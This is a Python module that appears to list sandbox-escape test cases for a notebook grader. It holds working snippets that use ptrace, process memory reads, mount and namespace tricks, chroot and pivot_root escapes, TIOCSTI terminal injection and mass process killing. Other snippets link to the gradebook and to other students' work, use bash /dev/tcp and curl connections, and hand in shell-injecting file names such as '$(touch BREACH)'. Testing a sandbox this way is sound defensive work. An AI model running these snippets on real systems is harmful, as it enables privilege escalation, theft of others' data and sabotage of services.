"""Getting out of the process: by the kernel's doors, by other programs, over the network."""

from pathlib import Path

from ..attack import Attack, Places

KIND = "escape"


def of(name: str, about: str, code: str = "", **more: object) -> Attack:
    return Attack(name, KIND, about, code, **more)  # type: ignore[arg-type]


LIBC = """
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def others():
    return ([int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
            if os.path.isdir("/proc") else [])
def reach():
    for pattern in (CLASS + "/submitted/*/*/*", COURSE + "/solutions/*/*",
                    CLASS + "/source/*/*.ipynb", HOME + "/.ssh/*"):
        for path in glob.glob(pattern):
            if ME not in path: gain(read(path))
"""


def names_that_climb(folder: Path, places: Places) -> None:
    for name in (
        "..\\..\\up.csv", "..%2f..%2fup.csv", "~", "-rf", "a\nb.csv", "$(touch BREACH)", "`id`.csv", "%s%n.csv", " .csv"
    ):
        (folder / name).write_text("1\n")
    (folder / "... ").mkdir()
    (folder / "... " / "x.csv").write_text("1\n")


def hard_link(folder: Path, places: Places) -> None:
    (folder / "zoe.csv").hardlink_to(places.class_dir / "submitted" / "ada" / "small" / "small.ipynb")


ATTACKS = (
    of("ptrace", "Every process in sight is attached to with ptrace and ended.", LIBC + """
for pid in others():
    if libc.ptrace(16, pid, 0, 0) == 0:
        libc.waitpid(pid, None, 0x40000000)
        libc.ptrace(8, pid, 0, 0)
"""),
    of("process-vm-readv", "The memory of other processes is read with process_vm_readv.", LIBC + """
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def search():
    end = time.time() + 1
    for pid in others():
        for line in open(f"/proc/{pid}/maps"):
            if " rw-p" in line and time.time() < end:
                start, stop = (int(x, 16) for x in line.split()[0].split("-"))
                size = min(stop - start, 1 << 24)
                here = ctypes.create_string_buffer(size)
                got = libc.process_vm_readv(pid, ctypes.byref(Vector(ctypes.addressof(here), size)), 1,
                                            ctypes.byref(Vector(start, size)), 1, 0)
                if got > 0: gain(here.raw[:got])
quietly(search)
"""),
    of("mount-over-the-class", "A file system is mounted over the class, and the root made writable.", LIBC + """
for place in (CLASS, COURSE, "/usr", HOME):
    libc.mount(b"none", place.encode(), b"tmpfs", 0, None)
libc.mount(None, b"/", None, 32 | 4096, None)
quietly(mark, "/breach")
reach()
"""),
    of("namespaces-of-its-own", "New namespaces are entered, to be root in them and mount.", LIBC + """
if libc.unshare(0x10000000 | 0x20000) == 0:
    quietly(lambda: open("/proc/self/setgroups", "w").write("deny"))
    quietly(lambda: open("/proc/self/uid_map", "w").write(f"0 {os.getuid()} 1"))
    libc.umount2(b"/proc", 2); libc.umount2(b"/", 2); libc.umount2(b"/tmp", 2)
    for folder in ("/", "/tmp", "/home", "/root"):
        libc.mount(b"none", folder.encode(), b"overlay", 0, None)
    reach()
"""),
    of("chroot", "A chroot is left by the old way of a second one.", LIBC + """
quietly(os.makedirs, "cage", 0o755, True)
if not isinstance(quietly(os.chroot, "cage"), Exception):
    for _ in range(50): quietly(os.chdir, "..")
    quietly(os.chroot, ".")
reach()
"""),
    of("become-root", "setuid, setgid and capabilities are tried.", LIBC + """
for change in (lambda: os.setuid(0), lambda: os.seteuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    quietly(change)
if os.geteuid() == 0: reach()
for name in ("sudo", "su", "pkexec", "doas"):
    quietly(lambda: subprocess.run([name, "-n", "touch", CLASS + "/breach"], timeout=2,
                                   stdin=subprocess.DEVNULL, capture_output=True))
"""),
    of("pivot-root", "The root is exchanged for the one below it.", LIBC + """
quietly(os.makedirs, "new/old", 0o755, True)
libc.syscall(155, b".", b"."); libc.syscall(155, b"new", b"new/old")
for _ in range(30): quietly(os.chdir, "..")
reach()
for top in ("/.old", "/old", "/oldroot", "/old_root", "/put_old", "/mnt"):
    for path in glob.glob(top + CLASS + "/submitted/*/*/*"): gain(read(path))
"""),
    of("proc-root", "The files of other processes are reached through /proc/1/root.", LIBC + """
for pid in (1, os.getppid(), "self", "thread-self"):
    for pattern in (CLASS + "/submitted/*/*/*", COURSE + "/solutions/*/*"):
        for path in glob.glob(f"/proc/{pid}/root{pattern}"):
            if ME not in path: gain(read(path))
"""),
    of("enter-namespaces", "The namespaces of other processes are entered with setns.", LIBC + """
for pid in others():
    for kind in ("user", "mnt", "pid", "net"):
        fd = quietly(os.open, f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        if isinstance(fd, int) and libc.setns(fd, 0) == 0 and kind == "mnt": reach()
"""),
    of("open-by-handle", "Files are opened by their handle, past the file system's tree.", LIBC + """
handle = ctypes.create_string_buffer(64)
ctypes.c_uint.from_buffer(handle).value = 8
ctypes.c_ulonglong.from_buffer(handle, 8).value = 2
fd = libc.syscall(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
for name in ("gradebook.db", "submitted/ada/small/small.ipynb") if fd >= 0 else ():
    path = quietly(os.open, CLASS.lstrip("/") + "/" + name, os.O_RDONLY, dir_fd=fd)
    if isinstance(path, int): gain(os.read(path, 4_000_000))
"""),
    of("kernel-settings", "The name of the machine is changed through /proc/sys and by its call.", """
for name in ("hostname", "domainname"):
    quietly(lambda: open("/proc/sys/kernel/" + name, "w").write("breach"))
quietly(socket.sethostname, "breach")
"""),
    of("terminal-input",
       "A command is typed into the instructor's terminal with TIOCSTI, and something written on it.", """
import fcntl
for fd in (*range(64), quietly(os.open, "/dev/tty", os.O_RDWR)):
    quietly(fcntl.ioctl, fd, 0x5412, b"\\n")
    if isinstance(fd, int) and os.isatty(fd): quietly(os.write, fd, b"BREACH")
"""),
    of("keyring", "A key is added to the keyrings of the session and the user.", LIBC + """
for ring in (-3, -4, -5):
    libc.syscall(248, b"user", b"breach-%d" % time.time_ns(), b"x", 1, ring)
"""),
    of("vsock", "A service is called by a socket between virtual machines.", """
def call(machine):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect((machine, PORT))
for machine in (1, 2): quietly(call, machine)
"""),
    of("network-tcp", "A connection is opened to a service of this machine.", """
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
    quietly(lambda: socket.create_connection((host, PORT), 1))
"""),
    of("network-udp", "Answers are sent out in datagrams.", """
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(b"secrets", ("127.0.0.1", PORT))
quietly(send)
"""),
    of("network-by-program", "A program is started that connects.", """
code = f"import socket; socket.create_connection(('127.0.0.1', {PORT}), 1)"
for command in ([sys.executable, "-c", code], ["bash", "-c", f"echo x > /dev/tcp/127.0.0.1/{PORT}"],
                ["curl", "-m", "1", f"http://127.0.0.1:{PORT}"]):
    quietly(lambda: subprocess.run(command, timeout=2, capture_output=True))
"""),
    of("abstract-socket", "A service on an abstract Unix socket is called.", """
def call():
    with socket.socket(socket.AF_UNIX) as s: s.connect("\\0arena-%d" % PORT)
quietly(call)
"""),
    of("docker-socket", "The container service is called over its Unix socket.", """
for path in (os.path.dirname(CLASS) + "/run/docker.sock", "/var/run/docker.sock"):
    def call():
        with socket.socket(socket.AF_UNIX) as s: s.connect(path)
    quietly(call)
"""),
    of("grader-killed", "Parent, group and every process in sight are killed.", LIBC + """
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for pid in {os.getppid(), *others()} - {0, 1, os.getpid()}:
    quietly(os.kill, pid, 9)
"""),
    of("everybody-killed", "kill(-1): every process that may be killed, at once.", """
quietly(os.kill, -1, 9)
"""),
    of("group-killed", "kill(0): the own process group.", """
quietly(os.killpg, os.getpgrp(), 9)
quietly(os.kill, 0, 9)
"""),
    of("grader-stopped", "Parent and every process in sight are stopped.", LIBC + """
for pid in {os.getppid(), *others()} - {0, 1, os.getpid()}:
    quietly(os.kill, pid, signal.SIGSTOP)
""", slow=True),
    of("everybody-slowed",
       "Own priority is raised, others' is lowered and their memory is named first to be killed.", LIBC + """
quietly(os.nice, -20)
for pid in others():
    quietly(os.setpriority, os.PRIO_PROCESS, pid, 19)
    quietly(lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"))
    quietly(lambda: __import__("resource").prlimit(pid, 0, (600, 600)))
"""),
    of("hard-link-to-the-gradebook", "Hard links to the gradebook and to others' work are made.", """
for path in (CLASS + "/gradebook.db", *glob.glob(CLASS + "/submitted/*/*/*.ipynb"),
             *glob.glob(COURSE + "/solutions/*/*")):
    if ME not in path and not isinstance(quietly(os.link, path, "link-%d" % abs(hash(path))), Exception):
        gain(read("link-%d" % abs(hash(path))))
"""),
    of("hard-link-handed-in", "A file of the hand-in is a hard link to another's notebook; it is written to.", """
gain(read("zoe.csv"))
quietly(mark, "zoe.csv")
""", folder=hard_link),
    of("names-that-climb", "File names with .., control characters and shell signs are handed in.",
       "", folder=names_that_climb),
    of("left-by-relative-paths", "Files are written by climbing from the working directory.", """
for depth in range(1, 8):
    quietly(mark, "../" * depth + "breach.txt")
    quietly(os.symlink, "/", "../" * depth + "breach-link")
"""),
    of("memory-file-executed", "A program is put into memory and executed from there.", """
fd = quietly(lambda: os.memfd_create("x"))
if isinstance(fd, int):
    os.write(fd, b"#!/bin/sh\\necho BREACH > " + CLASS.encode() + b"/breach\\n")
    quietly(lambda: subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=[fd], timeout=2, capture_output=True))
"""),
)  # fmt: skip
